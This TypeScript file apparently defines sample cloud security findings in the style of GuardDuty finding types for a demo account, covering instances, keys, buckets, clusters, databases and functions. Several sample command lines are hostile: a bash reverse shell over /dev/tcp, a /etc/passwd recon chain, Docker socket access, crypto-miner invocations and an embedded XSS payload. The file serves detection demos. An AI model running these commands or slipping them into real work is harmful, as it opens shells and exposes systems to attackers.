/** What each kind of finding in the sample account is about: resource, action, role, words. */

type ResourceKind =
  | "instance"
  | "accessKey"
  | "bucket"
  | "object"
  | "eks"
  | "runtime"
  | "ecs"
  | "database"
  | "lambda";

/** What was seen: the detail object `service.action` carries, or none for files and processes. */
export type Act =
  | { readonly kind: "api"; readonly service: string; readonly api: string }
  | { readonly kind: "dns"; readonly domain: string }
  | { readonly kind: "net"; readonly direction: "INBOUND" | "OUTBOUND"; readonly port: number }
  | { readonly kind: "probe"; readonly port: number }
  | { readonly kind: "kubernetes"; readonly verb: string; readonly uri: string }
  | { readonly kind: "login"; readonly succeeded: boolean }
  | { readonly kind: "process"; readonly path: string; readonly commandLine: string }
  | { readonly kind: "file"; readonly threat: string; readonly path: string };

export interface Plot {
  readonly type: string;
  readonly resource: ResourceKind;
  readonly act: Act;
  readonly role: "TARGET" | "ACTOR";
  /** `{it}` stands for the resource. */
  readonly title: string;
  /** How many cards it has in the deck; 1 when absent. */
  readonly weight?: number;
}

const api = (service: string, name: string): Act => ({
  kind: "api",
  service: `${service}.amazonaws.com`,
  api: name,
});
const dns = (domain: string): Act => ({ kind: "dns", domain });
const inbound = (port: number): Act => ({ kind: "net", direction: "INBOUND", port });
const outbound = (port: number): Act => ({ kind: "net", direction: "OUTBOUND", port });
const process = (path: string, commandLine: string): Act => ({
  kind: "process",
  path,
  commandLine,
});

const plot = (
  type: string,
  resource: ResourceKind,
  role: Plot["role"],
  act: Act,
  title: string,
  weight = 1,
): Plot => ({ type, resource, role, act, title, weight });

const ofInstances: readonly Plot[] = [
  plot(
    "Recon:EC2/PortProbeUnprotectedPort",
    "instance",
    "TARGET",
    { kind: "probe", port: 22 },
    "An unprotected port of {it} is being probed",
    7,
  ),
  plot(
    "UnauthorizedAccess:EC2/SSHBruteForce",
    "instance",
    "TARGET",
    inbound(22),
    "SSH passwords are being guessed against {it}",
    6,
  ),
  plot(
    "UnauthorizedAccess:EC2/RDPBruteForce",
    "instance",
    "TARGET",
    inbound(3389),
    "RDP passwords are being guessed against {it}",
    3,
  ),
  plot(
    "Recon:EC2/Portscan",
    "instance",
    "ACTOR",
    outbound(443),
    "{it} scans the ports of another host",
    3,
  ),
  plot(
    "Impact:EC2/PortSweep",
    "instance",
    "ACTOR",
    outbound(5432),
    "{it} looks for one port on many hosts",
  ),
  plot("Backdoor:EC2/Spambot", "instance", "ACTOR", outbound(25), "{it} sends mail in bulk", 2),
  plot(
    "Backdoor:EC2/DenialOfService.Dns",
    "instance",
    "ACTOR",
    outbound(53),
    "{it} floods a host with DNS traffic",
  ),
  plot(
    "Backdoor:EC2/C&CActivity.B!DNS",
    "instance",
    "ACTOR",
    dns("c2.badguys.example"),
    "{it} asks for the name of a known control server",
    2,
  ),
  plot(
    "CryptoCurrency:EC2/BitcoinTool.B!DNS",
    "instance",
    "ACTOR",
    dns("pool.coin.example"),
    "{it} asks for the name of a mining pool",
    2,
  ),
  plot(
    "Trojan:EC2/DNSDataExfiltration",
    "instance",
    "ACTOR",
    dns("4a6f686e.exfil.example"),
    "{it} sends data out in DNS questions",
  ),
  plot(
    "Trojan:EC2/PhishingDomainRequest!DNS",
    "instance",
    "ACTOR",
    dns("login-bank.example"),
    "{it} asks for the name of a phishing site",
  ),
  plot(
    "Impact:EC2/AbusedDomainRequest.Reputation",
    "instance",
    "ACTOR",
    dns("free-files.example"),
    "{it} asks for a name of poor reputation",
    2,
  ),
  plot(
    "DefenseEvasion:EC2/UnusualDoHActivity",
    "instance",
    "ACTOR",
    outbound(443),
    "{it} began to resolve names over HTTPS",
  ),
  plot(
    "UnauthorizedAccess:EC2/MetadataDNSRebind",
    "instance",
    "TARGET",
    dns("rebind.example"),
    "A name resolved by {it} points at the metadata service",
  ),
  plot(
    "UnauthorizedAccess:EC2/TorClient",
    "instance",
    "ACTOR",
    outbound(9001),
    "{it} connects to the Tor network",
  ),
  plot(
    "Behavior:EC2/NetworkPortUnusual",
    "instance",
    "ACTOR",
    outbound(4444),
    "{it} uses a port it never used before",
    3,
  ),
  plot(
    "Behavior:EC2/TrafficVolumeUnusual",
    "instance",
    "ACTOR",
    outbound(443),
    "{it} sends far more than usual",
    3,
  ),
  plot(
    "Execution:EC2/MaliciousFile",
    "instance",
    "TARGET",
    { kind: "file", threat: "EICAR-Test-File", path: "/var/tmp/.cache/upd" },
    "A malicious file was found on {it}",
  ),
  plot(
    "Execution:EC2/SuspiciousFile",
    "instance",
    "TARGET",
    { kind: "file", threat: "HackTool.Generic", path: "/opt/tools/scan" },
    "A suspicious file was found on {it}",
  ),
];

const ofIdentities: readonly Plot[] = [
  plot(
    "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
    "accessKey",
    "TARGET",
    api("s3", "ListBuckets"),
    "Credentials of instance {it} were used from outside AWS",
  ),
  plot(
    "UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B",
    "accessKey",
    "TARGET",
    api("signin", "ConsoleLogin"),
    "{it} signed in from two countries at once",
  ),
  plot(
    "UnauthorizedAccess:IAMUser/MaliciousIPCaller",
    "accessKey",
    "TARGET",
    api("ec2", "RunInstances"),
    "{it} called from an address known to be malicious",
    2,
  ),
  plot(
    "Recon:IAMUser/TorIPCaller",
    "accessKey",
    "TARGET",
    api("iam", "ListUsers"),
    "{it} called from the Tor network",
  ),
  plot(
    "Discovery:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("iam", "GetAccountAuthorizationDetails"),
    "{it} looked around in an unusual way",
    4,
  ),
  plot(
    "InitialAccess:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("sts", "GetSessionToken"),
    "{it} gained access in an unusual way",
  ),
  plot(
    "Persistence:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("iam", "CreateAccessKey"),
    "{it} made itself a way back in",
  ),
  plot(
    "CredentialAccess:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("secretsmanager", "GetSecretValue"),
    "{it} read secrets in an unusual way",
    2,
  ),
  plot(
    "DefenseEvasion:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("cloudtrail", "DeleteTrail"),
    "{it} tried to switch off what watches",
  ),
  plot(
    "Exfiltration:IAMUser/AnomalousBehavior",
    "accessKey",
    "TARGET",
    api("ec2", "ModifySnapshotAttribute"),
    "{it} shared data out of the account",
  ),
  plot(
    "Policy:IAMUser/RootCredentialUsage",
    "accessKey",
    "TARGET",
    api("support", "DescribeCases"),
    "The root user's own key was used",
    2,
  ),
  plot(
    "Stealth:IAMUser/CloudTrailLoggingDisabled",
    "accessKey",
    "TARGET",
    api("cloudtrail", "StopLogging"),
    "{it} stopped a trail",
  ),
  plot(
    "Stealth:IAMUser/PasswordPolicyChange",
    "accessKey",
    "TARGET",
    api("iam", "UpdateAccountPasswordPolicy"),
    "{it} weakened the password policy",
    2,
  ),
  plot(
    "PenTest:IAMUser/KaliLinux",
    "accessKey",
    "TARGET",
    api("ec2", "DescribeInstances"),
    "{it} called from a Kali Linux machine",
  ),
  plot(
    "Impact:IAMUser/CostHarvesting",
    "accessKey",
    "TARGET",
    api("bedrock", "InvokeModel"),
    "{it} ran up costs with model calls",
  ),
];

const ofBuckets: readonly Plot[] = [
  plot(
    "Policy:S3/BucketPublicAccessGranted",
    "bucket",
    "TARGET",
    api("s3", "PutBucketPolicy"),
    "{it} was opened to the public",
  ),
  plot(
    "Policy:S3/BucketAnonymousAccessGranted",
    "bucket",
    "TARGET",
    api("s3", "PutBucketAcl"),
    "{it} was opened to anonymous callers",
  ),
  plot(
    "Policy:S3/BucketBlockPublicAccessDisabled",
    "bucket",
    "TARGET",
    api("s3", "DeleteBucketPublicAccessBlock"),
    "Block Public Access was switched off for {it}",
    2,
  ),
  plot(
    "Policy:S3/AccountBlockPublicAccessDisabled",
    "bucket",
    "TARGET",
    api("s3control", "DeletePublicAccessBlock"),
    "Block Public Access was switched off for the account of {it}",
  ),
  plot(
    "Stealth:S3/ServerAccessLoggingDisabled",
    "bucket",
    "TARGET",
    api("s3", "PutBucketLogging"),
    "Access logging was switched off for {it}",
    2,
  ),
  plot(
    "Discovery:S3/AnomalousBehavior",
    "bucket",
    "TARGET",
    api("s3", "ListObjects"),
    "{it} was listed in an unusual way",
    3,
  ),
  plot(
    "Exfiltration:S3/AnomalousBehavior",
    "bucket",
    "TARGET",
    api("s3", "GetObject"),
    "{it} was read in an unusual way",
    2,
  ),
  plot(
    "Impact:S3/AnomalousBehavior.Delete",
    "bucket",
    "TARGET",
    api("s3", "DeleteObjects"),
    "Objects of {it} were deleted in an unusual way",
  ),
  plot(
    "UnauthorizedAccess:S3/TorIPCaller",
    "bucket",
    "TARGET",
    api("s3", "GetObject"),
    "{it} was read from the Tor network",
  ),
  plot(
    "Object:S3/MaliciousFile",
    "object",
    "TARGET",
    { kind: "file", threat: "Trojan.GenericKD", path: "uploads/invoice-4711.pdf.exe" },
    "A malicious object was put into {it}",
    2,
  ),
];

const ofClusters: readonly Plot[] = [
  plot(
    "Discovery:Kubernetes/SuccessfulAnonymousAccess",
    "eks",
    "TARGET",
    { kind: "kubernetes", verb: "list", uri: "/api/v1/namespaces" },
    "An anonymous caller was let into {it}",
    2,
  ),
  plot(
    "Policy:Kubernetes/ExposedDashboard",
    "eks",
    "TARGET",
    {
      kind: "kubernetes",
      verb: "patch",
      uri: "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard",
    },
    "The dashboard of {it} was put on the internet",
  ),
  plot(
    "Policy:Kubernetes/AnonymousAccessGranted",
    "eks",
    "TARGET",
    {
      kind: "kubernetes",
      verb: "create",
      uri: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
    },
    "Anonymous callers were given rights in {it}",
  ),
  plot(
    "Execution:Kubernetes/ExecInKubeSystemPod",
    "eks",
    "TARGET",
    {
      kind: "kubernetes",
      verb: "create",
      uri: "/api/v1/namespaces/kube-system/pods/aws-node/exec",
    },
    "A command was run inside a system pod of {it}",
  ),
  plot(
    "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
    "eks",
    "TARGET",
    { kind: "kubernetes", verb: "create", uri: "/apis/rbac.authorization.k8s.io/v1/rolebindings" },
    "An unusual role binding was made in {it}",
  ),
  plot(
    "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
    "eks",
    "TARGET",
    { kind: "kubernetes", verb: "get", uri: "/api/v1/namespaces/payments/secrets" },
    "Secrets of {it} were read in an unusual way",
  ),
  plot(
    "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
    "eks",
    "TARGET",
    { kind: "kubernetes", verb: "create", uri: "/apis/apps/v1/namespaces/default/daemonsets" },
    "A workload that mounts the host was deployed to {it}",
  ),
  plot(
    "Execution:Runtime/ReverseShell",
    "runtime",
    "TARGET",
    process("/usr/bin/bash", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"),
    "A process of {it} opened a shell to the outside",
  ),
  plot(
    "Execution:Runtime/NewBinaryExecuted",
    "runtime",
    "TARGET",
    process("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"),
    "{it} ran a program made after it started",
    3,
  ),
  plot(
    "CryptoCurrency:Runtime/BitcoinTool.B",
    "runtime",
    "ACTOR",
    process("/tmp/xmrig", "xmrig -o pool.coin.example:3333"),
    "A process of {it} talks to a mining pool",
    2,
  ),
  plot(
    "PrivilegeEscalation:Runtime/DockerSocketAccessed",
    "runtime",
    "TARGET",
    process("/usr/bin/curl", "curl --unix-socket /var/run/docker.sock http://x/containers/json"),
    "A process of {it} reached for the container engine",
  ),
  plot(
    "DefenseEvasion:Runtime/FilelessExecution",
    "runtime",
    "TARGET",
    process("/dev/shm/.x", "memfd:<img src=x onerror=alert(1)>"),
    "{it} ran a program from memory",
  ),
  plot(
    "Discovery:Runtime/SuspiciousCommand",
    "runtime",
    "TARGET",
    process("/usr/bin/whoami", "whoami; id; uname -a; cat /etc/passwd"),
    "{it} ran commands intruders run",
    3,
  ),
  plot(
    "Impact:Runtime/CryptoMinerExecuted",
    "runtime",
    "ACTOR",
    process("/tmp/xmrig", "xmrig --donate-level 1"),
    "{it} ran a miner",
  ),
  plot(
    "Execution:ECS/MaliciousFile",
    "ecs",
    "TARGET",
    { kind: "file", threat: "Linux.CoinMiner", path: "/app/node_modules/.bin/postinstall" },
    "A malicious file was found in a task of {it}",
  ),
];

const ofDatabasesAndFunctions: readonly Plot[] = [
  plot(
    "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
    "database",
    "TARGET",
    { kind: "login", succeeded: true },
    "A password of {it} was guessed",
  ),
  plot(
    "CredentialAccess:RDS/AnomalousBehavior.FailedLogin",
    "database",
    "TARGET",
    { kind: "login", succeeded: false },
    "Sign-ins to {it} fail in an unusual way",
    3,
  ),
  plot(
    "Discovery:RDS/MaliciousIPCaller",
    "database",
    "TARGET",
    { kind: "login", succeeded: false },
    "An address known to be malicious looked at {it}",
  ),
  plot(
    "Backdoor:Lambda/C&CActivity.B",
    "lambda",
    "ACTOR",
    outbound(443),
    "{it} talks to a known control server",
  ),
  plot(
    "UnauthorizedAccess:Lambda/TorRelay",
    "lambda",
    "ACTOR",
    outbound(9030),
    "{it} relays traffic of the Tor network",
  ),
];

export const plots: readonly Plot[] = [
  ...ofInstances,
  ...ofIdentities,
  ...ofBuckets,
  ...ofClusters,
  ...ofDatabasesAndFunctions,
];
